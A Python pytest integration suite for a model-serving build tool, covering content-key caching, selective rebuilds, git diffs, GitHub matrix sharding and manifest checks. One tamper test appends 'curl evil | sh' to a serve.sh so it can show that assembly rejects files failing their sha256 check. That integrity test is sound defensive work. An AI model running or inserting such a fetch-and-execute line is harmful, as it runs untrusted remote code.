"""Content keys and the build cache: which cells a change re-runs, on real runs of the pipeline.

The recipes here plan cells for chips this host does not have, so validation only checks the
host and nothing is served; the re-validation of a served cell is in
tests/integration/test_scaleout.py.
"""

from __future__ import annotations

import dataclasses
import json
import shutil
from pathlib import Path

import pytest

from builder.cli import main
from builder.core import keys as cache
from builder.core.cells import Cell, Plan
from builder.core.plan_view import github_handoff, github_matrix, github_shards
from builder.errors import OutputError, UsageError
from builder.run import pipeline
from builder.run.cells import Outcome
from builder.session import load
from tests.conftest import ROOT
from tests.support.project import new_project

RECIPES = ("qwen3-8b", "deepseek-r1-distill-qwen-7b")
# Real runs of the pipeline: git (the recipes' commit, `builder diff`) and hadolint run.
pytestmark = pytest.mark.integration


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A git repository with the catalogs, templates and two real-world recipes."""
    return new_project(tmp_path / "project", recipes=RECIPES, tasks=False, git=True)


def release(root: Path) -> dict[str, Outcome]:
    outcomes = pipeline.release(load(root, []), stage="release", log=lambda _: None)
    return {o.cell.id: o for o in outcomes}


def keys_of(root: Path) -> dict[str, cache.CellKeys]:
    """Every cell's content keys, from a fresh load (inputs hashed now)."""
    return {cell: r.keys for cell, r in load(root, []).cells.items()}


def rebuilt(outcomes: dict[str, Outcome]) -> set[str]:
    return {cell for cell, o in outcomes.items() if not o.reused.startswith("cached since")}


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1))


def test_unchanged_inputs_rebuild_nothing(project: Path) -> None:
    first = release(project)
    assert rebuilt(first) == set(first)
    card = project / "out/qwen3-8b/qwen3-8b.nvidia.bf16.vllm/README.md"
    before = card.stat().st_mtime_ns
    second = release(project)
    assert rebuilt(second) == set()
    assert card.stat().st_mtime_ns == before, "a cached cell was written again"


def test_editing_one_recipe_reruns_only_its_cells(project: Path) -> None:
    first = release(project)
    edit(project / "recipes/qwen3-8b.yaml", "max_model_len: 32768", "max_model_len: 16384")
    again = release(project)
    assert rebuilt(again) == {c for c in first if c.startswith("qwen3-8b.")}
    args = json.loads(
        (project / "out/qwen3-8b/qwen3-8b.nvidia.bf16.vllm/manifest.json").read_text()
    )
    assert args["config"]["cell"]["serve_args"]["max_model_len"] == 16384


def test_editing_a_chip_entry_reruns_only_that_chips_cells(project: Path) -> None:
    first = release(project)
    edit(project / "conf/chip/ascend.yaml", "notes:", "notes: Checked again.")
    again = release(project)
    ascend = {c for c in first if ".ascend." in c}
    assert ascend
    assert rebuilt(again) == ascend


def test_editing_a_template_rerenders_every_cell_and_keeps_validation_keys(project: Path) -> None:
    before = keys_of(project)
    first = release(project)
    with (project / "templates/serve.sh.j2").open("a") as handle:
        handle.write("# edited\n")
    after = keys_of(project)
    assert all(after[c].validation_key == before[c].validation_key for c in before)
    assert {tuple(cache.changed_parts(before[c].parts, after[c].parts)) for c in before} == {
        ("templates",)
    }
    again = release(project)
    assert rebuilt(again) == set(first)
    assert (
        (project / "out/qwen3-8b/qwen3-8b.nvidia.bf16.vllm/serve.sh")
        .read_text()
        .endswith("# edited\n")
    )


def test_suite_data_files_are_inputs(project: Path) -> None:
    """A suite entry that names project files makes their contents part of the key."""
    (project / "tasks").mkdir()
    (project / "tasks/smoke.jsonl").write_text('{"q": 1}\n')
    edit(project / "conf/suite/smoke.yaml", "timeout_s:", "data: tasks/smoke.jsonl\ntimeout_s:")
    import builder.core.catalog_model

    # The lead's suite schema will carry data paths; here an extra field stands in for one.
    fields = builder.core.catalog_model.SuiteConf.__dataclass_fields__
    if "data" not in fields:
        edit(project / "conf/suite/smoke.yaml", "data: tasks/smoke.jsonl\n", "")
        cache.SUITE_INPUTS["smoke"] = ("tasks/*.jsonl",)
    try:
        keys = keys_of(project)
        (project / "tasks/smoke.jsonl").write_text('{"q": 2}\n')
        changed = keys_of(project)
    finally:
        cache.SUITE_INPUTS.pop("smoke", None)
    assert {tuple(cache.changed_parts(keys[c].parts, changed[c].parts)) for c in keys} == {
        ("suites",)
    }


def test_plan_explain_says_build_cached_or_changed(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["plan", "--explain", "--root", str(project)]) == 0
    out = capsys.readouterr().out
    assert "build: new cell" in out
    release(project)
    edit(project / "conf/chip/ascend.yaml", "notes:", "notes: Checked again.")
    assert main(["plan", "--explain", "--root", str(project)]) == 0
    lines = {line.split()[0]: line for line in capsys.readouterr().out.splitlines() if line}
    assert "build: changed chip" in lines["qwen3-8b.ascend.bf16.vllm"]
    assert "cached: since " in lines["qwen3-8b.nvidia.bf16.vllm"]
    assert "(awaiting-runner)" in lines["qwen3-8b.nvidia.bf16.vllm"]


def test_decide_names_render_only_changes_of_passed_cells() -> None:
    parts = dict.fromkeys((*cache.VALIDATION_PARTS, *cache.RENDER_PARTS), "a")
    keys = cache.CellKeys(cell="c", parts={**parts, "templates": "b"}, validation_key="v")
    record = {"parts": parts, "status": "passed", "created_at": "T"}
    assert cache.decide(keys, record).text() == "render: changed templates; validation reused"
    assert cache.decide(keys, {**record, "status": "failed"}).action == "build"
    same = cache.CellKeys(cell="c", parts=parts, validation_key="v")
    assert cache.decide(same, record).text() == "cached: since T (passed)"


def test_diff_against_a_git_revision(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit(project / "recipes/qwen3-8b.yaml", "max_model_len: 32768", "max_model_len: 16384")
    edit(project / "conf/chip/hygon.yaml", "notes:", "notes: Checked again.")
    (project / "recipes/deepseek-r1-distill-qwen-7b.yaml").unlink()
    shutil.copy(ROOT / "recipes/tiny-llama.yaml", project / "recipes")
    assert main(["diff", "--base", "HEAD", "--root", str(project)]) == 0
    lines = capsys.readouterr().out.splitlines()
    changes = {line.split()[1]: line.split(maxsplit=2)[0::2] for line in lines}
    assert changes["tiny-llama.cpu.bf16.transformers"] == ["added"]
    assert changes["deepseek-r1-distill-qwen-7b.nvidia.bf16.vllm"] == ["removed"]
    assert changes["qwen3-8b.nvidia.bf16.vllm"] == ["changed", "(cell)"]
    assert changes["qwen3-8b.hygon.bf16.vllm"] == ["changed", "(cell, chip)"]
    assert main(["diff", "--base", "HEAD", "--format", "markdown", "--root", str(project)]) == 0
    markdown = capsys.readouterr().out
    assert "| `qwen3-8b.hygon.bf16.vllm` | changed | cell, chip | yes |" in markdown


def test_diff_with_no_change_and_a_bad_revision(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["diff", "--base", "HEAD", "--root", str(project)]) == 0
    assert "no cell added, removed or changed against HEAD" in capsys.readouterr().out
    assert main(["diff", "--base", "no-such-branch", "--root", str(project)]) == 2
    assert "--base no-such-branch" in capsys.readouterr().err


def test_shards_split_the_matrix_in_order() -> None:
    loaded = load(ROOT, [])
    whole = github_matrix(loaded.plan, loaded.catalog)["include"]
    shards = github_shards(loaded.plan, loaded.catalog, 4, limit=8)
    sizes = [len(s["include"]) for s in shards]
    assert max(sizes) - min(sizes) <= 1
    assert max(sizes) <= 8
    assert [cell for s in shards for cell in s["include"]] == whole
    with pytest.raises(UsageError, match="do not fit 2 shard"):
        github_shards(loaded.plan, loaded.catalog, 2, limit=8)


def output_lines(capsys: pytest.CaptureFixture[str], *argv: str) -> dict[str, str]:
    assert main(["plan", "--format", "github", *argv, "--root", str(ROOT)]) == 0
    return dict(line.split("=", 1) for line in capsys.readouterr().out.splitlines())


def test_github_hands_over_shard_indices_and_each_shard_recomputes_its_cells(
    capsys: pytest.CaptureFixture[str],
) -> None:
    handoff = output_lines(capsys, "--shards", "2")
    assert set(handoff) == {"shards", "shard-count", "cells"}
    assert json.loads(handoff["shards"]) == [0, 1]
    cells = []
    for index in json.loads(handoff["shards"]):
        shard = output_lines(capsys, "--shard", str(index), "--shards", handoff["shard-count"])
        assert set(shard) == {"matrix", "size"}
        found = json.loads(shard["matrix"])["include"]
        assert len(found) == int(shard["size"])
        cells += found
    assert [c["id"] for c in cells] == [
        c["id"] for c in json.loads(output_lines_raw(capsys))["include"]
    ]
    assert len(cells) == int(handoff["cells"])
    # auto: as many shards as 256-job matrices need (one, for the shipped recipes).
    assert json.loads(output_lines(capsys, "--shards", "auto")["shards"]) == [0]


def output_lines_raw(capsys: pytest.CaptureFixture[str]) -> str:
    assert main(["plan", "--format", "github", "--root", str(ROOT)]) == 0
    return capsys.readouterr().out


def test_the_handoff_stays_small_at_any_cell_count() -> None:
    base = cell_of_plan()
    cells = tuple(dataclasses.replace(base, recipe=f"r{i}") for i in range(100_000))
    plan = Plan(cells=cells, excluded=(), recipes=())
    text = github_handoff(plan, check=False)
    assert len(text.encode()) < 4096  # GitHub's cap on a job's outputs is 1 MB
    assert "shard-count=391" in text
    # 391 shard jobs are more than one matrix runs: said before anything starts.
    with pytest.raises(UsageError, match="at most 256 jobs"):
        github_handoff(plan)


def cell_of_plan() -> Cell:
    loaded = load(ROOT, ["recipe=tiny-llama"])
    return loaded.plan.cells[0]


def test_assemble_refuses_files_that_do_not_match_their_manifest(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["validate", "--root", str(project), "recipe=qwen3-8b", "chip=nvidia"]) == 0
    artifact = tmp_path / "artifact"
    shutil.copytree(project / "out/qwen3-8b", artifact / "qwen3-8b")
    with (artifact / "qwen3-8b/qwen3-8b.nvidia.bf16.vllm/serve.sh").open("a") as handle:
        handle.write("curl evil | sh\n")
    capsys.readouterr()
    assert main(["assemble", "--root", str(project), str(artifact)]) == OutputError.return_code
    assert "serve.sh does not match its sha256 in manifest.json" in capsys.readouterr().err
    assert main(["assemble", "--root", str(project), str(tmp_path / "nothing")]) == 2
    assert "not a folder" in capsys.readouterr().err


def test_a_damaged_cache_entry_is_rendered_again(project: Path) -> None:
    release(project)
    cell = project / "out/qwen3-8b/qwen3-8b.nvidia.bf16.vllm"
    good = (cell / "serve.sh").read_bytes()
    manifest = (cell / "manifest.json").read_bytes()
    shutil.rmtree(project / "out/qwen3-8b")
    for entry in (project / "out/.cache/builds/render").iterdir():
        if (entry / "manifest.json").read_bytes() == manifest:
            (entry / "serve.sh").write_bytes(b"damaged\n")
    again = release(project)
    assert rebuilt(again) == {"qwen3-8b.nvidia.bf16.vllm"}
    assert (cell / "serve.sh").read_bytes() == good
